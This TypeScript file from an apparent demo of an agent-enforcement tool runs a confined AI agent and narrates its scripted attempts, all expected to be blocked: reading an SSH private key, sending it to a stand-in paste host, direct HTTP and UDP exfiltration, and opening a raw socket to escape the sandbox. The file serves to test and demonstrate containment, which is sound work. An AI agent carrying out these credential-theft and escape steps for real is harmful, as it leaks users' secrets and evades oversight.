// Step 5: the agent under enforcement. `lilith run --agent coder -- node agent.js`
// puts it in its cgroup (the kernel sends every connection to the proxy), has
// the enforcer attest it, confines it (Landlock, seccomp, no capabilities) and
// starts it. Each line it reports is narrated as it arrives; when it starts
// waiting for the swap, step 6 runs while it keeps calling.
import { type ChildProcess, spawn } from 'node:child_process';
import { createInterface } from 'node:readline';
import { ESCAPE_PROBE_BIN } from '../../confine/native.js';
import type { AgentPlan } from './agent.js';
import type { DemoContext } from './context.js';
import { stopProcess } from './fleet.js';
import { say } from './narrate.js';
import { AGENT, CLI } from './paths.js';
import { AGENT_SPIFFE_ID } from './policy-repo.js';

type Line = Record<string, unknown> & { step: string };

function describe(l: Line, ctx: DemoContext): string {
  const denied = (x: Line) => `DENIED (${String(x.message ?? '').replace(/^.*?Denied by Lilith policy: /, '')})`;
  switch (l.step) {
    case 'clean-read':
      return `read_file /workspace/README.md (clean session) → ${l.outcome === 'allowed' ? 'ALLOWED' : l.outcome === 'denied' ? denied(l) : `FAILED ${l.error}`}`;
    case 'credential-read':
      return `read_file /home/dev/.ssh/id_ed25519 → ${l.outcome === 'allowed' ? 'ALLOWED, and the session is now tainted CREDENTIALS' : String(l.outcome).toUpperCase()}`;
    case 'exfil-tool':
      return `http_post https://paste.example/upload (the key as body) → ${l.outcome === 'denied' ? denied(l) : String(l.outcome).toUpperCase()}`;
    case 'direct-http':
      return `POST http://${ctx.exfil.host}:${ctx.exfil.httpPort}/upload straight from Node, no MCP → ${
        l.status === 403
          ? `the kernel sent it to the proxy: 403 (${(JSON.parse(String(l.body)) as { reason?: string }).reason ?? 'forbidden'})`
          : l.error
            ? `refused: ${l.error}`
            : `HTTP ${l.status}`
      }`;
    case 'udp':
      return `UDP datagram to ${ctx.exfil.host}:${ctx.exfil.udpPort} → ${l.error ? `${l.error} from the kernel (cgroup sendmsg4)` : 'SENT'}`;
    case 'raw-socket':
      return `socket(AF_INET, SOCK_RAW, ICMP) in a helper it starts → ${l.ok ? 'OPENED' : `${l.errno === 1 ? 'EPERM' : `errno ${l.errno}`}: ${l.error} (seccomp of lilith run; the cgroup sock_create hook also refuses raw sockets to anything in the agent cgroup)`}`;
    case 'waiting-for-swap':
      return 'keeps calling list_directory /workspace every 50 ms (allowed by read-tools) …';
    case 'swap':
      return `after the swap: ${l.allowed} allowed, ${l.denied} denied, ${l.failed} failed calls; the first denial: ${(l.denial as Line | null)?.message ?? 'none'}`;
    default:
      return JSON.stringify(l);
  }
}

export interface AgentRun {
  /** Resolves with the exit code when the agent has exited. */
  done: Promise<number | null>;
  lines: Line[];
}

export function startAgent(ctx: DemoContext, fleetSocket: string, onWaiting: () => Promise<void>): AgentRun {
  const plan: AgentPlan = {
    files: ctx.files.url,
    exfil: { host: ctx.exfil.host, httpPort: ctx.exfil.httpPort, udpPort: ctx.exfil.udpPort },
    probe: ESCAPE_PROBE_BIN,
    swapTimeoutMs: 30_000,
  };
  say(`   $ lilith run --agent coder -- node dist/cli/demo/agent.js   (as ${AGENT_SPIFFE_ID})`);
  const proc: ChildProcess = spawn(
    process.execPath,
    [CLI, 'run', '--socket', fleetSocket, '--agent', 'coder', '--', process.execPath, AGENT, JSON.stringify(plan)],
    { stdio: ['ignore', 'pipe', 'pipe'] },
  );
  ctx.cleanup.add('agent', () => stopProcess(proc));
  let stderr = '';
  proc.stderr?.on('data', (c: Buffer) => {
    stderr = (stderr + c.toString()).slice(-10_000);
  });
  const lines: Line[] = [];
  let swap: Promise<void> = Promise.resolve();
  const rl = createInterface({ input: proc.stdout! });
  rl.on('line', (text) => {
    let l: Line;
    try {
      l = JSON.parse(text) as Line;
    } catch {
      say(`   agent: ${text}`);
      return;
    }
    lines.push(l);
    say(`   agent: ${describe(l, ctx)}`);
    if (l.step === 'waiting-for-swap') swap = onWaiting();
  });
  const done = new Promise<number | null>((resolve) => {
    proc.once('exit', async (code) => {
      await swap.catch(() => undefined);
      if (code !== 0) say(`   the agent exited ${code}${stderr.trim() ? `: ${stderr.trim().split('\n').slice(-5).join(' | ')}` : ''}`);
      else if (stderr.includes('DEGRADED'))
        say(
          `   note: ${stderr
            .trim()
            .split('\n')
            .find((x) => x.includes('DEGRADED'))}`,
        );
      resolve(code);
    });
  });
  return { done, lines };
}
